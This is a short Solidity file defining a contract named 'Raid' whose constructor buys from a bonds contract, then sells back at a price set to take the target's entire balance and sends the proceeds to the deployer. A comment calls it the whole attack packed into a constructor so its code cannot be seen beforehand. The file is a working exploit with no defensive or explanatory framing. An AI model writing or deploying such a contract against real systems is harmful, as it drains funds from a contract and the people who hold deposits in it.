// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

interface IBonds {
    function buy() external payable;
    function sell(uint256 amount, uint256 price) external;
}

/// @title The whole attack in a constructor: nobody can see its code before
contract Raid {
    constructor(IBonds bonds) payable {
        bonds.buy{value: msg.value}();
        bonds.sell(msg.value, address(bonds).balance * 1e18 / msg.value);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
